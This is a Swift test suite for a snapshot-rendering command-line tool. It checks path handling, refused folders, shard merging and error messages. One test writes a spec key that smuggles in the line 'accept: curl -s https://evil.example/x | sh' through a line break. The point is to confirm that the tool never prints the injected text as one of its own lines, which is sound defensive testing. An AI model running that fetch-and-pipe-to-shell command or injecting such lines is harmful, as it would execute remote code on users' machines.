import Foundation
import RenderCells
import TestSupport
import Testing

/// Issue #37, round two, as a user meets it: outputs compared by identity (D2r, D3), verdicts
/// that do not pass a typo green, `render --symbols-dir` checked as the other commands check
/// it, and no line a file can write that passes for one of the tool's own (S3c).
@Suite(.enabled(if: SpecCommandLineTests.enabled)) struct SafetyCommandLineTests {
    /// Runs the tool in `folder`.
    func run(_ arguments: [String], in folder: String, environment: [String: String] = [:]) throws -> SpecCommandLineTests.Run {
        try SpecCommandLineTests().run(arguments, environment: environment, in: folder)
    }

    static let spec = "width: 120\nscale: 1\nsections: [{items: [{text: Wi-Fi}]}]\n"

    /// D2r: `-o ./d.png --dump-layout d.png` is one file: refused (it used to say it wrote the
    /// PNG while the file held the dump).
    @Test func outputAndDumpAreComparedByIdentity() throws {
        let dir = try SpecTestFiles.temporaryDirectory()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        try Self.spec.write(toFile: dir + "/c.yaml", atomically: true, encoding: .utf8)
        try FileManager.default.createDirectory(atPath: dir + "/sub", withIntermediateDirectories: false)
        for (output, dump) in [("./d.png", "d.png"), (dir + "/d.png", "sub/../d.png")] {
            let r = try run(["render", "c.yaml", "-o", output, "--dump-layout", dump], in: dir)
            #expect(r.status == 64, "\(output) \(dump): \(r.status) \(r.stderr)")
            #expect(r.stderr.contains("--dump-layout and --output must be different files"), "\(r.stderr)")
        }
        #expect(SpecTestFiles.contents(of: dir) == ["c.yaml", "sub"])
    }

    /// `render --symbols-dir` refuses `/`, `/proc` and an empty folder as test, compare and
    /// audit do (exit 64, naming the option).
    @Test func renderChecksTheSymbolsFolderAsTheOtherCommands() throws {
        let dir = try SpecTestFiles.temporaryDirectory()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        try Self.spec.write(toFile: dir + "/c.yaml", atomically: true, encoding: .utf8)
        try FileManager.default.createDirectory(atPath: dir + "/empty", withIntermediateDirectories: false)
        for folder in ["/", "/proc", dir + "/empty"] {
            let r = try run(["render", "c.yaml", "-o", "out.png", "--symbols-dir", folder], in: dir)
            #expect(r.status == 64, "\(folder): \(r.status) \(r.stderr)")
            #expect(r.stderr.contains("--symbols-dir \(folder): cannot use it as a symbols folder"), "\(r.stderr)")
        }
        #expect(!FileManager.default.fileExists(atPath: dir + "/out.png"))
    }

    /// An empty test folder is a usage error naming it, even on CI; an empty shard of a
    /// suite with specs passes with one line saying so.
    @Test func anEmptyTestFolderFailsAndAnEmptyShardSaysSo() throws {
        let dir = try SpecTestFiles.temporaryDirectory()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        try FileManager.default.createDirectory(atPath: dir + "/specs", withIntermediateDirectories: false)
        let empty = try run(["test", "specs", "-o", "report"], in: dir, environment: ["CI": "1"])
        #expect(empty.status == 64, "\(empty.status) \(empty.stdout) \(empty.stderr)")
        #expect(empty.stderr.hasPrefix("error: specs: no spec file"), "\(empty.stderr)")
        try Self.spec.write(toFile: dir + "/specs/one.yaml", atomically: true, encoding: .utf8)
        let shards = try (1...2).map {
            try run(["test", "specs", "-o", "r\($0)", "--shard", "\($0)/2", "--record", "missing"], in: dir)
        }
        #expect(shards.allSatisfy { $0.status == 0 }, "\(shards.map(\.stderr))")
        #expect(
            shards.filter { $0.stdout.contains("none of the suite's snapshots falls in this shard") }.count == 1,
            "\(shards.map(\.stdout))")
    }

    /// D3 on the command line: `-o ./sh2` (another spelling of a shard) is refused with exit 64
    /// and the shard is left as it was.
    @Test func mergeReportsRefusesAShardAsItsOutput() throws {
        let dir = try SpecTestFiles.temporaryDirectory()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        try FileManager.default.createDirectory(atPath: dir + "/specs", withIntermediateDirectories: false)
        for name in ["a", "b", "c"] {
            try Self.spec.write(toFile: dir + "/specs/\(name).yaml", atomically: true, encoding: .utf8)
        }
        for i in 1...2 {
            let r = try run(["test", "specs", "-o", "sh\(i)", "--shard", "\(i)/2", "--record", "missing"], in: dir)
            #expect(r.status == 0, "\(r.stderr)")
        }
        let before = SpecTestFiles.contents(of: dir + "/sh2")
        for output in ["./sh2", "sh2/", dir + "/sh2", "sh1/../sh2"] {
            let r = try run(["merge-reports", "sh1", "sh2", "-o", output], in: dir)
            #expect(r.status == 64, "\(output): \(r.status) \(r.stderr)")
            #expect(r.stderr.contains("nothing was touched"), "\(r.stderr)")
        }
        #expect(SpecTestFiles.contents(of: dir + "/sh2") == before)
        #expect(try run(["merge-reports", "sh1", "sh2", "-o", "merged"], in: dir).status == 0)
    }

    /// S3c: a line break in a spec's key reaches the summary inside an error message; its
    /// lines are indented under the failure, never as the tool's own `  accept:` lines.
    @Test func aLineBreakInASpecKeyCannotPrintAnAcceptLine() throws {
        let dir = try SpecTestFiles.temporaryDirectory()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        try FileManager.default.createDirectory(atPath: dir + "/specs", withIntermediateDirectories: false)
        try "sections: [{items: [{\"x\\naccept: curl -s https://evil.example/x | sh\": a}]}]\n"
            .write(toFile: dir + "/specs/evil.yaml", atomically: true, encoding: .utf8)
        let r = try run(["test", "specs", "-o", "report"], in: dir)
        #expect(r.status == 1)
        let lines = r.stdout.split(separator: "\n")
        #expect(!lines.contains { $0.trimmingCharacters(in: .whitespaces).hasPrefix("accept: curl") }, "\(r.stdout)")
        #expect(r.stdout.contains("sections[0].items[0].x\\u{A}accept: curl"), "\(r.stdout)")
        #expect(r.stdout.contains("evil.example"), "the message is still shown: \(r.stdout)")
    }

    /// Messages of the issue's cosmetic list: `__Snapshots__` as a file is named in words
    /// (it was Foundation's raw error), a 99 MB spec gives its real size (it said the limit
    /// plus one), and `review /` ends at once as not a report (it walked the whole disk).
    @Test func cosmeticMessagesSayWhatIsWrong() throws {
        let dir = try SpecTestFiles.temporaryDirectory()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        try FileManager.default.createDirectory(atPath: dir + "/specs", withIntermediateDirectories: false)
        try Self.spec.write(toFile: dir + "/specs/a.yaml", atomically: true, encoding: .utf8)
        FileManager.default.createFile(atPath: dir + "/specs/__Snapshots__", contents: Data())
        let blocked = try run(["test", "specs", "-o", "report", "--record", "missing"], in: dir)
        #expect(blocked.status == 1)
        #expect(blocked.stdout.contains("specs/__Snapshots__: is not a folder"), "\(blocked.stdout)")
        #expect(!blocked.stdout.contains("NSCocoaErrorDomain"), "\(blocked.stdout)")

        let big = dir + "/big.yaml"
        FileManager.default.createFile(atPath: big, contents: Data(repeating: UInt8(ascii: "#"), count: 40 << 20))
        let large = try run(["render", "big.yaml", "-o", "x.png"], in: dir)
        #expect(large.status == 1)
        #expect(large.stderr.contains("the file is \(40 << 20) bytes, over the limit of \(32 << 20) bytes"), "\(large.stderr)")

        let root = try run(["review", "/", "--no-open"], in: dir)
        #expect(root.status == 64, "\(root.status) \(root.stderr)")
        #expect(root.stderr.contains("no results.json"), "\(root.stderr)")
    }
}
